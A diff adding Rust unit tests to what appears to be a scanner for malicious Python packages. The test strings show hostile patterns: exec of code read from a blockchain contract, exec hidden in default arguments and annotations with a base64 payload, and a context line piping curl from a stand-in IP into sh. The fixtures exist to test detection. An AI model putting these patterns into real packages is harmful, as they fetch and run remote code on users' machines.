@@ -678,6 +678,25 @@ mod tests {
     use crate::rules::testing::max_severity;
 
     #[test]
+    fn code_read_from_a_blockchain_contract_and_run_is_remote_code() {
+        let code = "from web3 import Web3\nw3 = Web3(Web3.HTTPProvider('https://rpc.example'))\nc = w3.eth.contract(address='0x1', abi=[])\nexec(c.functions.get().call())\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH110") >= 0.9);
+        let read = "from web3 import Web3\ndef f(w3, t, h):\n    return w3.eth.contract(address=t, abi=[]).functions.balanceOf(h).call()\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", read, "WH110"), 0.0);
+    }
+
+    #[test]
+    fn defaults_and_annotations_run_where_the_def_does() {
+        let default = "import os\ndef f(x=exec(os.environ['X'])):\n    pass\n";
+        assert!(max_severity("p/pkg/__init__.py", default, "WH110") >= 0.3);
+        let annotation =
+            "import base64\ndef f(x: exec(base64.b64decode('cHJpbnQoMSk='))):\n    pass\n";
+        assert!(max_severity("p/pkg/__init__.py", annotation, "WH110") > 0.0);
+        let postponed = "from __future__ import annotations\nimport base64\ndef f(x: exec(base64.b64decode('cHJpbnQoMSk='))):\n    pass\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", postponed, "WH110"), 0.0);
+    }
+
+    #[test]
     fn profilers_and_the_interactive_interpreter_execute_source() {
         let profiled = "import cProfile\ncProfile.run(\"__import__('os').system('curl -s http://198.51.100.9/x | sh')\")\n";
         assert!(max_severity("p/pkg/__init__.py", profiled, "WH120") >= 0.8);
